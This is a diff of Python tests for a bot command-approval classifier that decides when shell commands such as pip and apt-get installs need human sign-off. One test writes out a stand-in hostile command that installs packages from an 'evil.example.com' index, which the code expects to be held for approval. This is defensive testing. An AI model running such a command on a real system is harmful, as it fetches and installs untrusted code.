@@ -190,20 +190,17 @@ async def test_a_bot_wide_star_up_to_system_on_the_host_never_covers_a_secret_re
         assert esc["risk"] == "network" and any(r["rule"] == "secret-read" for r in esc["reasons"]), esc
 
 
-async def test_a_pattern_that_names_the_meaning_changing_words_covers_them(harness: Harness) -> None:
+async def test_a_pattern_that_names_the_meaning_changing_words_covers_them(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="pip install", max_risk="network")
-    await auto(harness, token, command="pip install requests", contained=True)
-    await asks(
-        harness, token, command="pip install --index-url https://pypi.example.com/simple requests", contained=True
-    )
+    await auto(harness, token, **sent("pip install requests", ws, contained=True))
+    await asks(harness, token, command="pip install requests", contained=True)  # no report of pip's settings
+    good = "pip install --index-url https://pypi.example.com/simple requests"
+    await asks(harness, token, **sent(good, ws, contained=True))
     await _approve(harness, pattern="pip install --index-url https://pypi.example.com/simple", max_risk="network")
-    await auto(
-        harness, token, command="pip install --index-url https://pypi.example.com/simple requests", contained=True
-    )
-    await asks(
-        harness, token, command="pip install --index-url https://evil.example.com/simple requests", contained=True
-    )
+    await auto(harness, token, **sent(good, ws, contained=True))
+    evil = "pip install --index-url https://evil.example.com/simple requests"
+    await asks(harness, token, **sent(evil, ws, contained=True))
 
 
 NEVER = [
@@ -348,14 +345,17 @@ def test_a_pattern_covers_the_meaning_changing_words_only_when_it_spells_them_ou
     assert (found is not None) is covered
 
 
-def test_the_suggested_pattern_spells_out_the_meaning_changing_words_so_it_covers_the_command_again() -> None:
+def test_the_suggested_pattern_spells_out_the_meaning_changing_words_so_it_covers_the_command_again(
+    tmp_path: Path,
+) -> None:
     for command, expected in [
         ("pip install -i https://pypi.example.com/simple x", "pip install -i https://pypi.example.com/simple"),
         ("apt-get install -y jq=1.0-old", "apt-get install -y jq=1.0-old"),
         ("systemctl disable --now nginx", "systemctl disable --now"),
         ("apt-get install -y jq", "apt-get install"),
     ]:
-        verdict = classify(command, contained=True, workspace=Path("/work/repo"))
+        # read in a project, as the adapter does: pip's settings there (none) are known
+        verdict = classify(command, contained=True, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
         assert suggest_patterns(verdict.commands) == [expected]
         assert covers_command(_approval(expected), verdict.commands[0]), command
     assert suggest_patterns(classify("apt-get install -y jq >> ~/install.log", contained=True).commands) == []
